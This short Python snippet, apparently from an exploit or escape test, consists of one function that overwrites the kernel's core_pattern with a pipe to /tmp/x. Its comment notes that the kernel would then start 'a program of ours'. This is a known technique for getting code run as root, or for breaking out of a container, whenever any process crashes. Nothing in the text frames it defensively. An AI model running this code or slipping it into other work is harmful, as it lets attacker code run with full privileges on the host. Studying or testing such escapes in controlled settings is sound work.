# A program of ours would be started by the kernel.
def attempt():
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/tmp/x")
    return True
